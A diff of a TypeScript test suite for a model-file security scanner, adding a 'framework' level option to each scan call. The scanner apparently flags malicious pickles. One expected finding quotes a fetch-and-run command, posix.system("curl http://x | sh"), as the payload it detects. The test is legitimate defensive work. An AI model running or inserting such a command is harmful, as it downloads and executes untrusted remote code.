@@ -22,7 +22,10 @@ async function project(files: Record<string, Uint8Array>) {
 }
 
 test('a clean model passes, and the report names the digest of what was read', async () => {
-  const report = await securityScan.run(await project({ 'model.pkl': GOOD }), { model: 'artifacts/model.pkl' })
+  const report = await securityScan.run(await project({ 'model.pkl': GOOD }), {
+    model: 'artifacts/model.pkl',
+    level: 'framework',
+  })
   expect(report).toMatchObject({
     verdict: 'pass',
     summary: `1 file, ${GOOD.length} bytes, 0 findings`,
@@ -32,7 +35,10 @@ test('a clean model passes, and the report names the digest of what was read', a
 })
 
 test('a pickle that is named .onnx is stopped with a message that a newcomer understands', async () => {
-  const report = await securityScan.run(await project({ 'model.onnx': EVIL }), { model: 'artifacts/model.onnx' })
+  const report = await securityScan.run(await project({ 'model.onnx': EVIL }), {
+    model: 'artifacts/model.onnx',
+    level: 'framework',
+  })
   const [result] = report.results
   expect(report.verdict).toBe('fail')
   expect(result?.message).toBe('At byte 41, REDUCE calls posix.system("curl http://x | sh"): runs programs (and 1 more finding)')
@@ -43,7 +49,7 @@ test('a pickle that is named .onnx is stopped with a message that a newcomer und
 
 test('a folder gives one result for each file', async () => {
   const context = await project({ 'a.pkl': GOOD, 'b.pkl': UNKNOWN, 'c.bin': Uint8Array.from([0xff, 0xff]) })
-  const report = await securityScan.run(context, { model: 'artifacts' })
+  const report = await securityScan.run(context, { model: 'artifacts', level: 'framework' })
   expect(report.results.map(({ title, verdict }) => [title, verdict])).toEqual([
     ['artifacts/a.pkl', 'pass'],
     ['artifacts/b.pkl', 'fail'],
@@ -55,8 +61,12 @@ test('a folder gives one result for each file', async () => {
 
 test('a missing file and an empty folder are told as such', async () => {
   const context = await project({})
-  await expect(securityScan.run(context, { model: 'model.pkl' })).rejects.toMatchObject({ code: 'E_FILE_MISSING' })
-  await expect(securityScan.run(context, { model: 'artifacts' })).rejects.toMatchObject({ code: 'E_FILE_MISSING' })
+  await expect(securityScan.run(context, { model: 'model.pkl', level: 'framework' })).rejects.toMatchObject({
+    code: 'E_FILE_MISSING',
+  })
+  await expect(securityScan.run(context, { model: 'artifacts', level: 'framework' })).rejects.toMatchObject({
+    code: 'E_FILE_MISSING',
+  })
 })
 
 test('a model is admitted by the digest of what was scanned, or not at all', async () => {
@@ -75,7 +85,10 @@ test('an ONNX model with weights beside it: an error that says so, and what to d
   const model = decodeOnnx(linearModel(1))
   const weights = { name: 'w', dims: [1], dataType: 1, dataLocation: 1, externalData: [{ key: 'location', value: 'model.data' }] }
   const bytes = encodeOnnx({ ...model, graph: { ...model.graph, initializer: [weights] } })
-  const report = await securityScan.run(await project({ 'model.onnx': bytes }), { model: 'artifacts/model.onnx' })
+  const report = await securityScan.run(await project({ 'model.onnx': bytes }), {
+    model: 'artifacts/model.onnx',
+    level: 'framework',
+  })
   expect(report).toMatchObject({
     verdict: 'error',
     results: [
